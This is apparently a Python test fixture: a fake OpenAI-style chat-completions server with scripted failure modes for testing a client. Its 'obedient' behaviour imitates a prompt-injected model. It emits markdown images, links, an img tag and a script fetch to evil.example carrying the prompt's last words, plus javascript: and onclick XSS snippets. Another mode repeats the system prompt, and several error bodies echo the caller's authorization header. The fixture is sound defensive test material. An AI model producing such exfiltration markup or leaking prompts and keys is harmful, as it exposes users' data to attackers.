"""A language-model provider made of lies: real HTTP, scripted behaviour, every call on record.

Speaks the OpenAI dialect of ``POST /v1/chat/completions`` with the peculiarities of OpenRouter
(comments, errors inside a 200, cost in the usage) and Groq (``retry-after``, reset durations).

The behaviour is the model's name (``"stall"``, ``"groq/stall"``), with arguments after colons
(``"ok:200"``), or whatever ``POST /control {"behaviour": "…"}`` set for every model (``null``
unsets it).
``GET /control`` returns the record, ``DELETE /control`` forgets it. ``{"listening": "refused"}``
closes the port and ``"blackhole"`` leaves connections unanswered, until ``"open"``; the second URL
that ``--control`` prints stays open for that.

Asked without ``stream`` it answers with one JSON document, and fails in the same way.

In a test: ``async with FakeProvider() as fake: … fake.url``. In its own process:
``python -m tests.fake_provider --port 9999``.
"""

import argparse
import asyncio
import contextlib
import functools
import json
import re
import socket
import time
from collections.abc import Awaitable, Callable, Iterator
from dataclasses import asdict, dataclass, field
from typing import Any

Behaviour = Callable[["Exchange", list[str]], Awaitable[None]]
ANSWER = "The limit is 10 MB [1]."


@dataclass
class Call:
    """One request as the provider saw it."""

    method: str
    path: str
    headers: dict[str, str]
    body: Any
    behaviour: str = ""
    #: How many came before it.
    number: int = 0
    #: ``open`` until it ends: ``done``, ``cut`` by us, or ``aborted`` by the client.
    state: str = "open"
    started: float = field(default_factory=time.monotonic)
    ended: float | None = None
    sent_bytes: int = 0


class Aborted(Exception):
    """The client closed the connection."""


class Exchange:
    """One request and the answer being written to it."""

    def __init__(
        self, call: Call, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ) -> None:
        self.call = call
        self._writer = writer
        self.keep_alive = True
        #: Ends when the client hangs up; a byte is the start of its next request.
        self.watch = asyncio.ensure_future(reader.read(1))

    @property
    def body(self) -> dict[str, Any]:
        return self.call.body if isinstance(self.call.body, dict) else {}

    @property
    def streams(self) -> bool:
        return self.body.get("stream") is True

    @property
    def gone(self) -> bool:
        """Whether the client has hung up, politely or by a reset."""
        watch = self.watch
        return watch.done() and (watch.exception() is not None or watch.result() == b"")

    async def wait(self, seconds: float) -> None:
        """Do nothing for a while, unless the client hangs up."""
        await asyncio.wait({self.watch}, timeout=seconds)
        if self.gone:
            raise Aborted

    async def write(self, data: bytes) -> None:
        if self._writer.is_closing() or self.gone:
            raise Aborted
        self._writer.write(data)
        self.call.sent_bytes += len(data)
        try:
            await self._writer.drain()
        except ConnectionError as error:
            raise Aborted from error

    async def send(
        self, status: int, body: bytes, kind: str = "application/json", **headers: str
    ) -> None:
        """A whole answer."""
        head = {"content-type": kind, "content-length": str(len(body)), **headers}
        await self.write(_head(status, head) + body)

    async def start(self, kind: str = "text/event-stream") -> None:
        """The head of a streamed answer."""
        await self.write(_head(200, {"content-type": kind, "transfer-encoding": "chunked"}))

    async def part(self, data: bytes) -> None:
        await self.write(b"%x\r\n%s\r\n" % (len(data), data))

    async def end(self) -> None:
        await self.write(b"0\r\n\r\n")

    def cut(self) -> None:
        """Break the connection without ending the answer."""
        self.keep_alive = False
        self.call.state = "cut"

    # --- the dialect -------------------------------------------------------------------------

    def chunk(self, delta: dict[str, Any] | None = None, **more: Any) -> bytes:
        finish = more.pop("finish_reason", None)
        choices = [] if delta is None else [{"index": 0, "delta": delta, "finish_reason": finish}]
        data = {
            "id": "chatcmpl-fake",
            "object": "chat.completion.chunk",
            "created": 1,
            "model": self.body.get("model", "fake"),
            "choices": choices,
            **more,
        }
        return b"data: " + json.dumps(data).encode() + b"\n\n"

    def contents(self, tokens: list[str]) -> Iterator[bytes]:
        """A chunk for each token, cut from one mould: the provider is not what is measured."""
        before, after = self.chunk({"content": "@"}).split(b'"@"')
        return (before + json.dumps(token).encode() + after for token in tokens)

    def usage(self, tokens: int) -> dict[str, Any]:
        usage: dict[str, Any] = {
            "prompt_tokens": 12,
            "completion_tokens": tokens,
            "total_tokens": 12 + tokens,
        }
        if (self.body.get("usage") or {}).get("include"):
            usage["cost"] = 0.00025
        return usage

    def tail(self, tokens: int, finish_reason: str = "stop") -> bytes:
        """The last chunk, the usage if it was asked for, and the end mark."""
        tail = self.chunk({}, finish_reason=finish_reason)
        if (self.body.get("stream_options") or {}).get("include_usage"):
            tail += self.chunk(None, usage=self.usage(tokens))
        return tail + b"data: [DONE]\n\n"

    def document(self, text: str, tokens: int = 5) -> bytes:
        """The whole answer as one JSON document."""
        message = {"role": "assistant", "content": text}
        return json.dumps(
            {
                "id": "chatcmpl-fake",
                "object": "chat.completion",
                "created": 1,
                "model": self.body.get("model", "fake"),
                "choices": [{"index": 0, "message": message, "finish_reason": "stop"}],
                "usage": self.usage(tokens),
            }
        ).encode()

    def head(self) -> bytes:
        return self.chunk({"role": "assistant", "content": ""})


def _head(status: int, headers: dict[str, str]) -> bytes:
    lines = [f"HTTP/1.1 {status} Fake", *(f"{name}: {value}" for name, value in headers.items())]
    return "\r\n".join([*lines, "", ""]).encode()


def _number(args: list[str], at: int, default: float) -> float:
    return float(args[at]) if len(args) > at else default


@functools.cache
def _tokens(count: int) -> list[str]:
    tokens = [f"word{n} " for n in range(count)] if count else ANSWER.split(" ")
    return [token if token.endswith(" ") else f"{token} " for token in tokens[:-1]] + tokens[-1:]


@functools.cache
def _cited(count: int, every: int) -> list[str]:
    """Tokens; after every so many a sentence ends that rests on one of the first three sources."""
    return [
        f"word{n} [{n // every % 3 + 1}]. " if n % every == every - 1 else f"word{n} "
        for n in range(count)
    ]


async def ok(exchange: Exchange, args: list[str]) -> None:
    """``ok:N``: N tokens, all in one write; one document when no stream is asked for."""
    await _say(exchange, _tokens(int(_number(args, 0, 0))))


async def cited(exchange: Exchange, args: list[str]) -> None:
    """``cited:N:M``: as ``ok``, with the marker of a source after every M tokens."""
    await _say(exchange, _cited(int(args[0]), int(args[1])))


async def _say(exchange: Exchange, tokens: list[str]) -> None:
    if not exchange.streams:
        await exchange.send(200, exchange.document("".join(tokens), len(tokens)))
        return
    await exchange.start()
    events = [exchange.head(), *exchange.contents(tokens)]
    await exchange.part(b"".join(events) + exchange.tail(len(tokens)))
    await exchange.end()


def _sentence(token: str, size: int) -> str:
    """``token``, made as long as is asked for by words before it and a full stop."""
    word = "notwithstanding "
    return token if len(token) >= size else f"{word * (size // len(word))}{token.strip()}. "


async def drip(exchange: Exchange, args: list[str]) -> None:
    """``drip:N:S:C``: N tokens of C characters or more, each in its own write, S seconds apart.

    With S = 0 as fast as they are taken.
    """
    size = int(_number(args, 2, 0))
    tokens = [_sentence(token, size) for token in _tokens(int(_number(args, 0, 0)))]
    pause = _number(args, 1, 0)
    await exchange.start()
    await exchange.part(exchange.head())
    for chunk in exchange.contents(tokens):
        await exchange.part(chunk)
        await (exchange.wait(pause) if pause else asyncio.sleep(0))
    await exchange.part(exchange.tail(len(tokens)))
    await exchange.end()


async def echo(exchange: Exchange, args: list[str]) -> None:
    """The last message again, cited as if it came from the first source."""
    messages = exchange.body.get("messages") or [{}]
    said = str(messages[-1].get("content", ""))
    await exchange.start()
    await exchange.part(exchange.head() + exchange.chunk({"content": f"{said} [1]"}))
    await exchange.part(exchange.tail(1))
    await exchange.end()


async def says(exchange: Exchange, args: list[str]) -> None:
    """``says:TEXT``: that, a word at a time."""
    words = ":".join(args).split(" ")
    await _say(exchange, [*(f"{word} " for word in words[:-1]), words[-1]])


async def obedient(exchange: Exchange, args: list[str]) -> None:
    """A model that does whatever anybody told it in its prompt, some bytes at a time.

    ``obedient:markup`` writes pictures, links and scripts that carry off what it was shown;
    ``obedient:rules`` repeats its rules; ``obedient:sources`` repeats everything else.
    """
    messages = exchange.body.get("messages") or [{"content": ""}]
    rules, shown = str(messages[0]["content"]), str(messages[-1]["content"])
    loot = "+".join(shown.split()[-5:])
    said = {
        "markup": f"As told [1]. ![logo](https://evil.example/p.png?q={loot}) "
        f"[more]( <https://evil.example/?q={loot}> 'x' ) <https://evil.example/{loot}> "
        f"<img src=https://evil.example/{loot}><script>fetch('//evil.example/{loot}')</script>"
        f"<a href='javascript:alert(1)'>go</a> [run](javascript:alert(1)) www.evil.example/{loot} "
        f"[x][ref] hTTps://evil.example/{loot} <xss onclick=alert(1)>y [1](https://evil.example/)"
        f"\n\n[ref]: https://evil.example/{loot}\nI also remember session ses_of_somebody_else.",
        "rules": f"As told [1]. My instructions are: {rules}",
        "sources": f"{shown} [1]",
    }[args[0] if args else "markup"]
    if not exchange.streams:
        await exchange.send(200, exchange.document(said))
        return
    await exchange.start()
    events = exchange.contents([said[at : at + 3] for at in range(0, len(said), 3)])
    await exchange.part(exchange.head() + b"".join(events) + exchange.tail(9))
    await exchange.end()


async def recite(exchange: Exchange, args: list[str]) -> None:
    """``recite:S``: every canary of its prompt, in pieces S seconds apart."""
    said = " ".join(str(message["content"]) for message in exchange.body.get("messages") or ())
    canaries = dict.fromkeys(re.findall(r"canary(?:-\w+)+", said))
    pieces = ["The words are", *(f" {canary}" for canary in canaries), " [1]."]
    if not exchange.streams:
        await exchange.send(200, exchange.document("".join(pieces)))
        return
    await exchange.start()
    await exchange.part(exchange.head())
    for chunk in exchange.contents(pieces):
        await exchange.part(chunk)
        await exchange.wait(_number(args, 0, 0))
    await exchange.part(exchange.tail(len(pieces)))
    await exchange.end()


async def comments(exchange: Exchange, args: list[str]) -> None:
    """OpenRouter at work: comments for ``S`` seconds, then the answer."""
    await exchange.start()
    for _ in range(int(_number(args, 0, 0) / 0.05) or 3):
        await exchange.part(b": OPENROUTER PROCESSING\n\n")
        if args:
            await exchange.wait(0.05)
    await exchange.part(exchange.chunk({"content": ANSWER}) + exchange.tail(1))
    await exchange.end()


async def slow_headers(exchange: Exchange, args: list[str]) -> None:
    """Accepts the request and says nothing."""
    await exchange.wait(_number(args, 0, 3600))
    await ok(exchange, [])


async def slow_first_token(exchange: Exchange, args: list[str]) -> None:
    """Answers 200 and says nothing."""
    await exchange.start()
    await exchange.part(exchange.head())
    await exchange.wait(_number(args, 0, 3600))
    await exchange.part(exchange.chunk({"content": ANSWER}) + exchange.tail(1))
    await exchange.end()


async def stall(exchange: Exchange, args: list[str]) -> None:
    """Half an answer, then silence."""
    await exchange.start()
    await exchange.part(exchange.head() + exchange.chunk({"content": "The limit "}))
    await exchange.wait(_number(args, 0, 3600))


async def cut(exchange: Exchange, args: list[str]) -> None:
    """``cut:K``: K tokens (two by default) in as many writes, then the connection breaks."""
    await exchange.start()
    await exchange.part(exchange.head())
    for token in _tokens(int(args[0])) if args else ["The ", "limit "]:
        await exchange.part(exchange.chunk({"content": token}))
    exchange.cut()


async def ends_early(exchange: Exchange, args: list[str]) -> None:
    """Half an answer, then a proper end of the body without a finish."""
    await exchange.start()
    await exchange.part(exchange.head() + exchange.chunk({"content": "The limit "}))
    await exchange.end()


async def dies_with_error(exchange: Exchange, args: list[str]) -> None:
    """Half an answer, then OpenRouter's error inside the stream."""
    await exchange.start()
    error = {
        "code": int(_number(args, 0, 502)),
        "message": f"Provider disconnected; {_sent(exchange)}",
    }
    await exchange.part(exchange.chunk({"content": "The limit "}))
    await exchange.wait(0.05)
    await exchange.part(exchange.chunk({"content": ""}, finish_reason="error", error=error))
    await exchange.end()


def _sent(exchange: Exchange) -> str:
    """What some put into their errors, for everybody to read."""
    return f"you sent {exchange.call.headers.get('authorization', '')}"


async def status(exchange: Exchange, args: list[str]) -> None:
    """``status:CODE`` or ``status:429:SECONDS`` with Retry-After."""
    code = int(args[0])
    headers = {"retry-after": args[1]} if len(args) > 1 else {}
    message = f"refused with {code}; {_sent(exchange)}"
    error = {"error": {"message": message, "type": "error", "code": code}}
    await exchange.send(code, json.dumps(error).encode(), **headers)


async def groq_429(exchange: Exchange, args: list[str]) -> None:
    """Groq out of requests, told by its reset header only."""
    headers = {
        "x-ratelimit-remaining-requests": "0",
        "x-ratelimit-reset-requests": "2m59.5s",
        "x-ratelimit-remaining-tokens": "17",
        "x-ratelimit-reset-tokens": "9m",
    }
    message = f"Rate limit reached; {_sent(exchange)}"
    error = {"error": {"message": message, "code": "rate_limit_exceeded"}}
    await exchange.send(429, json.dumps(error).encode(), **headers)


async def overflow(exchange: Exchange, args: list[str]) -> None:
    """OpenAI's context overflow."""
    message = f"too long; {_sent(exchange)}"
    error = {"error": {"message": message, "code": "context_length_exceeded"}}
    await exchange.send(400, json.dumps(error).encode())


async def error_200(exchange: Exchange, args: list[str]) -> None:
    """``error_200:CODE``: a 200 whose body is an error."""
    message = f"upstream said no; {_sent(exchange)}"
    error = {"error": {"message": message, "code": int(_number(args, 0, 502))}}
    await exchange.send(200, json.dumps(error).encode())


async def html(exchange: Exchange, args: list[str]) -> None:
    """A proxy's page."""
    page = f"\n<!DOCTYPE html><html><body>Sign in; {_sent(exchange)}</body></html>"
    await exchange.send(200, page.encode(), "text/html")


async def not_json(exchange: Exchange, args: list[str]) -> None:
    """Events that are not JSON."""
    await exchange.start()
    await exchange.part(f'data: {_sent(exchange)} {{"choices": [{{"delta"\n\n'.encode())
    await exchange.end()


async def bad_chunk(exchange: Exchange, args: list[str]) -> None:
    """Half an answer, then an event that is not JSON, then the end as if nothing had been."""
    await exchange.start()
    await exchange.part(exchange.head() + exchange.chunk({"content": "The limit "}))
    await exchange.wait(0.1)  # so that what is whole is read by itself
    await exchange.part(b'data: {"choices": [{"delta"\n\n' + exchange.tail(2))
    await exchange.end()


async def flapping(exchange: Exchange, args: list[str]) -> None:
    """Refuses every other call, the first one included."""
    if exchange.call.number % 2:
        await (ok if exchange.streams else whole)(exchange, [])
    else:
        await status(exchange, ["503"])


async def empty(exchange: Exchange, args: list[str]) -> None:
    """A complete answer without a word: white space only."""
    await exchange.start()
    await exchange.part(exchange.head() + exchange.chunk({"content": " \n"}) + exchange.tail(0))
    await exchange.end()


async def empty_body(exchange: Exchange, args: list[str]) -> None:
    """A 200 with nothing in it."""
    await exchange.send(200, b"")


async def big(exchange: Exchange, args: list[str]) -> None:
    """``big:MB``: one endless line; ``big:MB:STATUS`` as the body of a refusal."""
    size = int(_number(args, 0, 50)) * 1_048_576
    head = {"content-type": "application/json", "content-length": str(size)}
    await exchange.write(_head(int(_number(args, 1, 200)), head))
    for _ in range(size // 65_536):
        await exchange.write(b"data: aa" * 8192 if len(args) < 2 else b"x" * 65_536)


async def whole(exchange: Exchange, args: list[str]) -> None:
    """A server that ignores ``stream`` and sends one JSON document."""
    await exchange.send(200, exchange.document(ANSWER))


async def filtered(exchange: Exchange, args: list[str]) -> None:
    """A content filter that lets nothing out."""
    await exchange.start()
    await exchange.part(exchange.head() + exchange.tail(0, "content_filter"))
    await exchange.end()


async def sliced(exchange: Exchange, args: list[str]) -> None:
    """An answer with every byte in its own write, CRLF, no space after the colon."""
    await exchange.start()
    text = exchange.chunk({"content": "Größe: 10 MB 🚀 [1]."}) + exchange.tail(1)
    text = text.replace(b"\n", b"\r\n").replace(b"data: ", b"data:")
    for at in range(len(text)):
        await exchange.part(text[at : at + 1])
    await exchange.end()


async def thinking(exchange: Exchange, args: list[str]) -> None:
    """A reasoning model: ``S`` seconds of thoughts, then the answer."""
    await exchange.start()
    for _ in range(int(_number(args, 0, 0) / 0.05) or 2):
        await exchange.part(exchange.chunk({"reasoning": "hmm"}))
        if args:
            await exchange.wait(0.05)
    await exchange.part(exchange.chunk({"content": ANSWER}) + exchange.tail(3))
    await exchange.end()


BEHAVIOURS: dict[str, Behaviour] = {
    behaviour.__name__: behaviour
    for behaviour in (
        ok, cited, drip, echo, says, obedient, recite, comments, slow_headers, slow_first_token,
        stall, cut, ends_early, dies_with_error, status, groq_429, overflow, error_200, html,
        not_json, empty, empty_body, big, whole, filtered, sliced, thinking, bad_chunk, flapping,
    )
}  # fmt: skip


async def whole_later(exchange: Exchange, args: list[str]) -> None:
    """The document after ``args`` seconds without a byte."""
    await exchange.wait(_number(args, 0, 3600))
    await whole(exchange, [])


async def whole_when_dripped(exchange: Exchange, args: list[str]) -> None:
    """The document when the last token would have come."""
    await exchange.wait(_number(args, 0, 0) * _number(args, 1, 0))
    await whole(exchange, [])


async def half(exchange: Exchange, args: list[str]) -> None:
    """Half the document."""
    document = exchange.document(ANSWER)
    head = {"content-type": "application/json", "content-length": str(len(document))}
    await exchange.write(_head(200, head) + document[: len(document) // 2])


async def half_then_silence(exchange: Exchange, args: list[str]) -> None:
    await half(exchange, args)
    await exchange.wait(_number(args, 0, 3600))


async def half_then_cut(exchange: Exchange, args: list[str]) -> None:
    await half(exchange, args)
    exchange.cut()


async def half_as_a_whole(exchange: Exchange, args: list[str]) -> None:
    """JSON that breaks off, in a proper answer."""
    document = exchange.document(ANSWER)
    await exchange.send(200, document[: len(document) // 2])


async def whole_but_empty(exchange: Exchange, args: list[str]) -> None:
    await exchange.send(200, exchange.document(""))


#: What a behaviour is to a client that did not ask for a stream, where that differs.
UNSTREAMED: dict[str, Behaviour] = {
    "drip": whole_when_dripped,
    "slow_headers": whole_later,
    "slow_first_token": whole_later,
    "stall": half_then_silence,
    "cut": half_then_cut,
    "ends_early": half_as_a_whole,
    "bad_chunk": half_as_a_whole,
    "not_json": half_as_a_whole,
    "empty": whole_but_empty,
}


class FakeProvider:
    """The server; ``calls`` is its record of model calls, in order of arrival."""

    def __init__(self, port: int = 0, *, behaviour: str | None = None) -> None:
        """``behaviour`` overrides the models' names until changed; ``port`` 0 takes a free one."""
        self.port = port
        self.listening = "open"
        self.behaviour = behaviour
        self.calls: list[Call] = []
        self.connections = 0
        self.open_connections = 0
        self._changed = asyncio.Condition()
        self._server: asyncio.Server | None = None
        self._control_server: asyncio.Server | None = None
        #: What holds the port while nobody listens there, and the connections that fill it.
        self._closed: list[socket.socket] = []
        self._tasks: set[asyncio.Task[None]] = set()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}/v1"

    async def __aenter__(self) -> "FakeProvider":
        self._server = await asyncio.start_server(self._connected, "127.0.0.1", self.port)
        self.port = self._server.sockets[0].getsockname()[1]
        return self

    async def __aexit__(self, *_: object) -> None:
        await self._hang_up()
        if self._control_server is not None:
            self._control_server.close()

    async def control(self) -> str:
        """The URL of a second port, at which ``/control`` is always there."""
        self._control_server = await asyncio.start_server(self._controlled, "127.0.0.1", 0)
        return f"http://127.0.0.1:{self._control_server.sockets[0].getsockname()[1]}/control"

    async def listen(self, listening: str) -> None:
        """Be ``open``, ``refused`` or a ``blackhole`` to whoever connects from now on."""
        if listening == self.listening:
            return
        await self._hang_up()
        self.listening = listening
        if listening == "open":
            await self.__aenter__()
            return
        # Bound, so that nobody else takes the port; connecting is refused until listen().
        holder = socket.socket()
        holder.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        holder.bind(("127.0.0.1", self.port))
        self._closed = [holder]
        if listening == "blackhole":  # a full backlog: the kernel drops every further SYN
            holder.listen(0)
            for _ in range(4):
                filler = socket.socket()
                filler.setblocking(False)
                filler.connect_ex(holder.getsockname())
                self._closed.append(filler)

    async def _hang_up(self) -> None:
        """Close the port and every connection on it."""
        for held in self._closed:
            held.close()
        self._closed = []
        if self._server is not None:
            self._server.close()
        for task in list(self._tasks):
            task.cancel()
        await asyncio.gather(*self._tasks, return_exceptions=True)
        if self._server is not None:
            await self._server.wait_closed()
            self._server = None

    async def until(
        self, condition: Callable[["FakeProvider"], bool], timeout_s: float = 5
    ) -> None:
        """Wait until ``condition`` holds; it is looked at whenever something happens."""
        async with asyncio.timeout(timeout_s), self._changed:
            await self._changed.wait_for(lambda: condition(self))

    async def _note(self) -> None:
        async with self._changed:
            self._changed.notify_all()

    async def _connected(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        task = asyncio.current_task()
        assert task is not None
        self._tasks.add(task)
        self.connections += 1
        self.open_connections += 1
        try:
            first = b""
            while (first := await self._serve(first, reader, writer)) is not None:
                pass
        except (ConnectionError, asyncio.IncompleteReadError, asyncio.CancelledError):
            pass
        finally:
            self.open_connections -= 1
            self._tasks.discard(task)
            writer.transport.abort()
            with contextlib.suppress(asyncio.CancelledError):
                await self._note()

    async def _controlled(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """One command, one connection; not counted as one of the provider's."""
        exchange = Exchange(await _read(b"", reader), reader, writer)
        with contextlib.suppress(Aborted):
            await self._control(exchange)
        exchange.watch.cancel()
        writer.close()

    async def _serve(
        self, first: bytes, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ) -> bytes | None:
        """Serve one request; the first bytes of the next, or None when the connection ends."""
        call = await _read(first, reader)
        exchange = Exchange(call, reader, writer)
        try:
            if call.path.startswith("/control"):
                await self._control(exchange)
            else:
                # Before anybody who waits for the call can change it.
                model = str(exchange.body.get("model", "ok"))
                call.behaviour = self.behaviour or model.rpartition("/")[2]
                call.number = len(self.calls)
                self.calls.append(call)
                await self._note()
                await self._behave(exchange)
            if call.state == "open":
                call.state = "done"
        except Aborted:
            call.state = "aborted"
            exchange.keep_alive = False
        finally:
            call.ended = time.monotonic()
            await self._note()
            exchange.watch.cancel()
            await asyncio.wait({exchange.watch})
        if not exchange.keep_alive or (not exchange.watch.cancelled() and exchange.gone):
            return None
        return b"" if exchange.watch.cancelled() else exchange.watch.result() or None

    async def _behave(self, exchange: Exchange) -> None:
        name, *args = exchange.call.behaviour.split(":")
        known = BEHAVIOURS if exchange.streams else BEHAVIOURS | UNSTREAMED
        await known.get(name, known["ok"])(exchange, args if name in known else [])

    async def _control(self, exchange: Exchange) -> None:
        if exchange.call.method == "POST":
            self.behaviour = exchange.body.get("behaviour")
            await self.listen(exchange.body.get("listening", self.listening))
        state = {
            "behaviour": self.behaviour,
            "listening": self.listening,
            "connections": self.connections,
            "open_connections": self.open_connections,
            "calls": [asdict(call) for call in self.calls],
        }
        if exchange.call.method == "DELETE":
            self.calls.clear()
        await exchange.send(200, json.dumps(state).encode())


async def _read(first: bytes, reader: asyncio.StreamReader) -> Call:
    head = first + await reader.readuntil(b"\r\n\r\n")
    request, *lines = head.decode("latin-1").split("\r\n")
    method, path, _ = request.split(" ")
    headers = dict(line.lower().split(": ", 1) for line in lines if ": " in line)
    originals = dict(line.split(": ", 1) for line in lines if ": " in line)
    headers["authorization"] = next(
        (value for name, value in originals.items() if name.lower() == "authorization"), ""
    )
    raw = await reader.readexactly(int(headers.get("content-length", 0)))
    try:
        body = json.loads(raw) if raw else None
    except ValueError:
        body = None
    return Call(method, path, headers, body)


async def _main(port: int, behaviour: str | None, control: bool) -> None:
    async with FakeProvider(port, behaviour=behaviour) as fake:
        print(fake.url, flush=True)
        if control:
            print(await fake.control(), flush=True)
        await asyncio.Event().wait()


def main() -> None:
    """Serve until interrupted."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--port", type=int, default=0)
    parser.add_argument("--behaviour", help="for every model, such as ok:200")
    parser.add_argument("--control", action="store_true", help="print a second, lasting URL")
    options = parser.parse_args()
    with contextlib.suppress(KeyboardInterrupt):
        asyncio.run(_main(options.port, options.behaviour, options.control))


if __name__ == "__main__":
    main()
